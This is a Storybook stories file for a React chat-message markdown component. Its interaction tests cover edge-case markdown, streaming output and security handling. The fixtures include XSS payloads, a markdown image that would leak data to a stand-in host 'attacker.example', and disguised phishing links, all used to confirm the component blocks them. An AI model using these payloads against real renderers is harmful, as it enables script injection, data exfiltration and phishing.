import { useEffect, useState } from 'react';
import type { Meta, StoryObj } from '@storybook/react-vite';
import { Message, Policy } from '@platosdev/client/react';
import { expect, spyOn, userEvent, waitFor, within } from 'storybook/test';

const meta = {
  title: 'Components/MessageText',
  component: Message.Text,
  tags: ['autodocs'],
  decorators: [(Story) => <div style={{ maxWidth: 640 }}>{Story()}</div>],
} satisfies Meta<typeof Message.Text>;

export default meta;
type Story = StoryObj<typeof meta>;

const trickyMarkdown = [
  '## Edge cases',
  '',
  '**bold with *nested italic* inside** and \\*escaped stars\\* and `code with ** stars`',
  '',
  '1. first',
  '   - nested bullet',
  '     - deeper',
  '2. second with a [safe link](https://example.com/docs "Docs")',
  '',
  '> a quote with `code` and a line  ',
  '> break',
  '',
  '````md',
  '```ts',
  'const fenced = "inside a longer fence";',
  '```',
  '````',
  '',
  '| left | right |',
  '| :--- | ----: |',
  '| `a|b` escaped pipe \\| | 2 |',
  '',
  'A relative [link](/elsewhere) stays plain text, and so does <https://example.com/auto>.',
  '',
  '```js',
  'console.log("a fence still streaming, never closed");',
].join('\n');

/** Nesting, escapes, fences inside fences, a table, and a code block still open at the end. */
export const TrickyMarkdown: Story = {
  args: { text: trickyMarkdown },
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    expect(canvas.getByRole('heading', { level: 2, name: 'Edge cases' })).toBeInTheDocument();
    expect(canvas.getByText('nested italic').tagName).toBe('EM');
    expect(canvasElement).toHaveTextContent('*escaped stars*');
    expect(canvas.getByText('code with ** stars').tagName).toBe('CODE');
    expect(canvas.getByText('deeper').closest('ul')?.closest('ul')?.closest('ol')).not.toBeNull();
    expect(canvas.getByRole('link', { name: 'safe link' })).toHaveAttribute('rel', 'noopener noreferrer nofollow');
    expect(canvasElement).toHaveTextContent('```ts const fenced = "inside a longer fence"; ```');
    expect(canvas.getAllByRole('row')).toHaveLength(2);
    expect(canvas.queryByRole('link', { name: 'link' })).toBeNull();
    expect(canvasElement).toHaveTextContent('never closed');
  },
};

const hostileMarkdown = [
  'Images: <img src=x onerror=alert(1)>',
  '',
  '<script>alert(1)</script>',
  '',
  'Links: [click me](javascript:alert(1)) and <a href="javascript:alert(1)">raw anchor</a>',
  '',
  '![tracking pixel](javascript:alert(1)) ![also bad](http://example.com/pixel.png)',
  '',
  '<iframe src="https://example.com"></iframe>',
].join('\n');

/** Raw HTML and unsafe URLs are shown as text: no element from the message is ever created. */
export const HostileHtml: Story = {
  args: { text: hostileMarkdown },
  beforeEach: () => {
    const alert = spyOn(window, 'alert').mockImplementation(() => {});
    return () => alert.mockRestore();
  },
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    expect(canvasElement.querySelectorAll('img, script, iframe')).toHaveLength(0);
    expect(canvasElement).toHaveTextContent('Images: <img src=x onerror=alert(1)>');
    expect(canvasElement).toHaveTextContent('<script>alert(1)</script>');
    expect(canvasElement).toHaveTextContent('<iframe src="https://example.com"></iframe>');
    expect(canvas.getByText('click me').closest('a')).toBeNull();
    for (const anchor of canvasElement.querySelectorAll('a')) expect(anchor.getAttribute('href')).toMatch(/^https?:/);
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect(window.alert).not.toHaveBeenCalled();
  },
};

const streamedAnswer = [
  '## Retrying a request',
  '',
  'Retry only **idempotent** requests, with `exponential backoff` and [jitter](https://example.com/jitter) so clients do not retry in step.',
  '',
  '| attempt | delay | note |',
  '| ---: | ---: | --- |',
  '| 1 | 250 ms | first retry |',
  '| 2 | 500 ms | doubled |',
  '| 3 | 1000 ms | capped later |',
  '',
  '```ts',
  'export function backoff(attempt: number): number {',
  '  // base * 2^n, capped at ten seconds',
  '  const base = 250;',
  "  return Math.min(base * Math.pow(2, attempt), 10_000);",
  '}',
  '```',
  '',
  '1. Measure the failure rate',
  '2. Pick a *budget*',
  '3. Write it down',
].join('\n');

function StreamingMessage({ text, charactersPerFrame }: { text: string; charactersPerFrame: number }) {
  const [length, setLength] = useState(0);
  useEffect(() => {
    const timer = setInterval(() => setLength((shown) => Math.min(text.length, shown + charactersPerFrame)), 16);
    return () => clearInterval(timer);
  }, [text, charactersPerFrame]);
  return <Message.Text text={text.slice(0, length)} streaming={length < text.length} />;
}

/**
 * An answer streamed a few characters per frame: completed blocks stay put, unfinished `**`, links and the table's
 * header row never show as raw markdown, the code block shows plain text while open and is highlighted once closed.
 */
export const Streaming: Story = {
  args: { text: streamedAnswer },
  render: (args) => <StreamingMessage text={args.text} charactersPerFrame={4} />,
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    const seen: string[] = [];
    const observer = new MutationObserver(() => seen.push(canvasElement.textContent ?? ''));
    observer.observe(canvasElement, { subtree: true, childList: true, characterData: true });
    const root = () => canvasElement.querySelector('.platos-markdown');
    await waitFor(() => expect(root()).toHaveAttribute('data-state', 'complete'), { timeout: 15_000 });
    observer.disconnect();
    expect(seen.length).toBeGreaterThan(20);
    expect(seen.filter((text) => text.includes('**') || text.includes('](') || text.includes('| attempt'))).toEqual([]);
    expect(canvas.getByRole('heading', { level: 2, name: 'Retrying a request' })).toBeInTheDocument();
    expect(canvas.getAllByRole('row')).toHaveLength(4);
    expect(canvas.getByRole('link', { name: 'jitter' })).toHaveAttribute('href', 'https://example.com/jitter');
    const code = canvasElement.querySelector('.platos-code-block code');
    await waitFor(() => expect(code).toHaveAttribute('data-highlight', 'highlighted'));
    expect(code?.querySelector('.hljs-keyword')).not.toBeNull();
    expect(canvas.getByRole('button', { name: 'Copy code' })).toBeInTheDocument();
  },
};

/** A code block still being written: plain text with a caret, no highlighting yet. */
export const OpenCodeFence: Story = {
  args: { text: 'Here is the function:\n\n```python\ndef backoff(attempt):\n    base = 250\n    return min(base * 2 ** attempt', streaming: true },
  play: async ({ canvasElement }) => {
    const block = canvasElement.querySelector('.platos-code-block');
    expect(block).toHaveAttribute('data-state', 'streaming');
    expect(block?.querySelector('code')).toHaveAttribute('data-highlight', 'plain');
    expect(canvasElement).not.toHaveTextContent('```');
  },
};

const hostileImageMarkdown = [
  'Here is the chart: ![Quarterly revenue](https://attacker.example/leak?d=secret) and the same host again: ![Team photo](https://attacker.example/p.png)',
  '',
  'Ours, from an allowed prefix: ![Allowed picture](/images/allowed.png)',
  '',
  'Never loadable: ![pixel](javascript:alert(1)) ![vector](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
].join('\n');

/**
 * Images in model output load only from prefixes the app allowed (`imagePolicy`); any other host shows a placeholder
 * with its host and a "Load image" button, and makes no request. Script and SVG addresses never load.
 */
export const HostileImage: Story = {
  args: { text: hostileImageMarkdown.replace('/images/allowed.png', `${location.origin}/images/allowed.png`) },
  decorators: [(Story) => <Policy.Provider imagePolicy={{ allow: [`${location.origin}/images/`] }}>{Story()}</Policy.Provider>],
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    expect(canvasElement.querySelectorAll('img')).toHaveLength(1);
    const allowed = canvas.getByRole<HTMLImageElement>('img', { name: 'Allowed picture' });
    expect(allowed).toHaveAttribute('referrerpolicy', 'no-referrer');
    const placeholders = canvasElement.querySelectorAll('.platos-image-placeholder[data-state="blocked"]');
    expect(placeholders).toHaveLength(2);
    expect(placeholders[0]).toHaveAttribute('data-host', 'attacker.example');
    expect(placeholders[0]).toHaveTextContent('Image from attacker.example not loaded');
    expect(canvas.getAllByRole('button', { name: 'Load image from attacker.example' })).toHaveLength(2);
    expect(canvasElement.querySelectorAll('.platos-image-placeholder[data-state="unsafe"]')).toHaveLength(2);
    expect(canvasElement.innerHTML).not.toContain('leak?d=secret');
  },
};

const disguisedLinkMarkdown = [
  'Log in at [bank.com](https://evil.example/login?session=abc) or [https://bank.com/login](https://bank.com.evil.example/login).',
  '',
  'Honest links show no hint: https://example.com/docs and [example.com](https://example.com/).',
  '',
  'Read [the report](https://reports.example/q3?leak=secret) before the meeting.',
].join('\n');

/**
 * A link whose text names another host shows the real one beside it, and its full address as a tooltip. With
 * `linkPolicy={{ confirm: 'external' }}` a click first shows the full address inline, with "Open link" and "Cancel".
 */
export const DisguisedLink: Story = {
  args: { text: disguisedLinkMarkdown },
  decorators: [(Story) => <Policy.Provider linkPolicy={{ confirm: 'external' }}>{Story()}</Policy.Provider>],
  beforeEach: () => {
    const open = spyOn(window, 'open').mockImplementation(() => null);
    return () => open.mockRestore();
  },
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement);
    const hosts = [...canvasElement.querySelectorAll('.platos-link-host')].map((host) => host.textContent);
    expect(hosts).toEqual(['evil.example', 'bank.com.evil.example', 'reports.example']);
    expect(canvas.getByRole('link', { name: 'bank.com' })).toHaveAttribute('title', 'https://evil.example/login?session=abc');
    await userEvent.click(canvas.getByRole('link', { name: 'the report' }));
    const confirm = canvas.getByRole('group', { name: 'Open this link? https://reports.example/q3?leak=secret' });
    expect(within(confirm).getByRole('button', { name: 'Cancel' })).toHaveFocus();
    await userEvent.keyboard('{Escape}');
    expect(canvas.queryByRole('group')).toBeNull();
    expect(canvas.getByRole('link', { name: 'the report' })).toHaveFocus();
    await userEvent.keyboard('{Enter}');
    await userEvent.click(within(canvas.getByRole('group')).getByRole('button', { name: 'Open link' }));
    expect(window.open).toHaveBeenCalledWith('https://reports.example/q3?leak=secret', '_blank', 'noopener,noreferrer');
    // Left open for the docs and screenshots.
    await userEvent.click(canvas.getByRole('link', { name: 'the report' }));
    expect(canvas.getByRole('group', { name: /^Open this link\?/ })).toBeInTheDocument();
  },
};
